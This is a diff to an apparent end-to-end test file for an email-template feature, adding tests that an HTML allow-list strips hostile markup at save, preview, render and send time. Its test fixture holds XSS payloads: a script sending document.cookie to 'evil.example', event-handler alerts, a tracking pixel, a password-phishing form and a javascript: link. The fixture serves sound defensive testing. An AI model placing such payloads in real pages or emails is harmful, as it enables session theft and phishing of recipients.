@@ -3,13 +3,17 @@
  * braces, HTML escaping of values, live preview, test-sends of unsaved text, reset, and who may edit what.
  * Emails go through the delivery worker to a real SMTP server.
  */
+import { and, eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { deliveries, notificationTemplates } from "../../../db/schema/notifications";
+import { auditLog } from "../../../db/schema/users";
 import { type SmtpSink, startSmtpSink } from "../../../e2e/support/smtp-sink";
 import { createTestClock } from "../../clock";
 import { silentLogger } from "../../logger";
 import { enrol, makeProgram, makeUser, sessionTokenFor } from "../../test-support/factories";
 import { errorOf, jarOf, startTestApp, type TestApp } from "../../test-support/test-app";
 import { createDeliveryWorker } from "../../worker/delivery-worker";
+import type { EmailPayload } from "./outbox.service";
 import type { TemplateContentInput } from "./template.schema";
 
 let sink: SmtpSink;
@@ -158,7 +162,8 @@ describe("values in messages", () => {
       enrolmentEmail(p.program.id, { html: "<h1>{{programName}}</h1><p>Hi {{recipient.name}}, you are a {{role}}.</p>" }),
     );
     const mail = await enrolAndReadMail(p, `Ola <b>Bold</b>`);
-    expect(mail.html).toContain("<h1>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; {{recipient.name}} Club</h1>");
+    // Quotes need no escaping in text, so the allow-list's serializer writes them plainly; the markup stays text.
+    expect(mail.html).toContain('<h1>&lt;script&gt;alert("x")&lt;/script&gt; &amp; {{recipient.name}} Club</h1>');
     expect(mail.html).toContain("<p>Hi Ola &lt;b&gt;Bold&lt;/b&gt;, you are a mentee.</p>");
     expect(mail.html).not.toContain("<script>");
     expect(mail.text).toContain("Dear Ola <b>Bold</b>,");
@@ -227,5 +232,100 @@ describe("who may edit", () => {
     expect((await errorOf(mine.client.template.save.mutate({ ...content, scope: "platform" }))).appCode).toBe("FORBIDDEN");
 
     expect((await enrolAndReadMail(mine)).subject).toBe("You joined Iris Initiative");
+  });
+});
+
+describe("the HTML allow-list", () => {
+  /** Scripts, an event handler, a tracking pixel, a form and a javascript: link around real content with variables. */
+  const hostile =
+    '<h1 onmouseover="steal()">Welcome to {{programName}}</h1><script>fetch("https://evil.example/"+document.cookie)</script>' +
+    '<p>Hi {{recipient.name}}, you are a <strong>{{role}}</strong>.</p><img src="https://tracker.example/open.gif?who={{recipient.name}}" width="1" height="1">' +
+    '<img src="x" onerror="alert(1)"><form action="https://evil.example/phish"><input name="password" type="password"><button>Log in</button></form>' +
+    '<p><a href="javascript:alert(document.domain)">Claim your prize</a> or <a href="{{link}}">start here</a></p>';
+
+  const refusedParts = ["<script", "onmouseover", "onerror", "<img", "tracker.example", "<form", "<input", "javascript:", "evil.example"];
+  const expectClean = (html: string | null | undefined) => {
+    expect(html).toBeTruthy();
+    for (const part of refusedParts) expect(html).not.toContain(part);
+  };
+
+  it("saving stores the sanitized HTML and tells the editor what was removed; the preview shows the same", async () => {
+    const p = await programWithCoordinator("Kestrel Collective");
+    const draft = enrolmentEmail(p.program.id, { html: hostile });
+
+    const preview = await p.client.template.preview.query(draft);
+    expectClean(preview.html);
+    expect(preview.html).toContain("<h1>Welcome to Kestrel Collective</h1>");
+    expect(preview.removed).toEqual([
+      "<script>",
+      "<img> (2 times): images are not allowed (remote images track readers; link to the picture instead)",
+      "<form>",
+      "<input>",
+      "<button>",
+      "the onmouseover event handler",
+      "a link address that is not http, https or mailto",
+    ]);
+
+    const saved = await p.client.template.save.mutate(draft);
+    expect(saved.removed).toEqual(preview.removed);
+    expectClean(saved.html);
+    const [stored] = await t.deps.db
+      .select({ html: notificationTemplates.html })
+      .from(notificationTemplates)
+      .where(and(eq(notificationTemplates.scope, p.program.id), eq(notificationTemplates.type, "program.enrolled")));
+    expect(stored?.html).toBe(saved.html);
+    expect(stored?.html).toContain('<a href="{{link}}" rel="noopener noreferrer">start here</a>');
+    const listed = (await p.client.template.list.query({ scope: p.program.id })).find(
+      (r) => r.type === "program.enrolled" && r.channel === "email",
+    );
+    expect(listed?.html).toBe(saved.html);
+    const [audited] = await t.deps.db
+      .select({ detail: auditLog.detail })
+      .from(auditLog)
+      .where(and(eq(auditLog.action, "template.save"), eq(auditLog.targetId, `${p.program.id}:program.enrolled:email`)));
+    expect(audited?.detail).toContain("HTML sanitized: <script>");
+  });
+
+  it("the email people receive has none of it, and the variables are filled in", async () => {
+    const p = await programWithCoordinator("Lantern League");
+    await p.client.template.save.mutate(enrolmentEmail(p.program.id, { html: hostile }));
+    const mail = await enrolAndReadMail(p, "Uma Unsafe");
+    expectClean(mail.html);
+    expect(mail.html).toContain("<h1>Welcome to Lantern League</h1>");
+    expect(mail.html).toContain("<p>Hi Uma Unsafe, you are a <strong>mentee</strong>.</p>");
+    expect(mail.html).toContain(`<a href="${t.url}/programs/${p.program.id}" rel="noopener noreferrer">start here</a>`);
+  });
+
+  it("a template stored before the allow-list existed is sanitized when a message is rendered from it", async () => {
+    const p = await programWithCoordinator("Meadow Mentors");
+    // As an older version would have stored it: no sanitizing at save.
+    await t.deps.db.insert(notificationTemplates).values({
+      scope: p.program.id,
+      type: "program.enrolled",
+      channel: "email",
+      subject: "Welcome to {{programName}}",
+      body: "Hello {{recipient.name}}.",
+      html: hostile,
+    });
+    const mail = await enrolAndReadMail(p, "Otto Old");
+    expectClean(mail.html);
+    expect(mail.html).toContain("<h1>Welcome to Meadow Mentors</h1>");
+  });
+
+  it("an email queued before the allow-list existed (a reminder written days ahead) is sanitized by the worker before it is sent", async () => {
+    const member = await makeUser(t.deps.db, { name: "Queued Quentin" });
+    const payload: EmailPayload = { to: member.email, subject: "Queued long ago", text: "Hello.", html: `<!doctype html>${hostile}` };
+    await t.deps.db.insert(deliveries).values({
+      userId: member.id,
+      channel: "email",
+      type: "reminder.event",
+      payload,
+      idempotencyKey: `old-row-${member.id}`,
+      dueAt: clock.now(),
+    });
+    await drain();
+    const mail = sink.messages.find((m) => m.envelopeTo.includes(member.email));
+    expectClean(mail?.html);
+    expect(mail?.html).toContain("Welcome to {{programName}}");
   });
 });
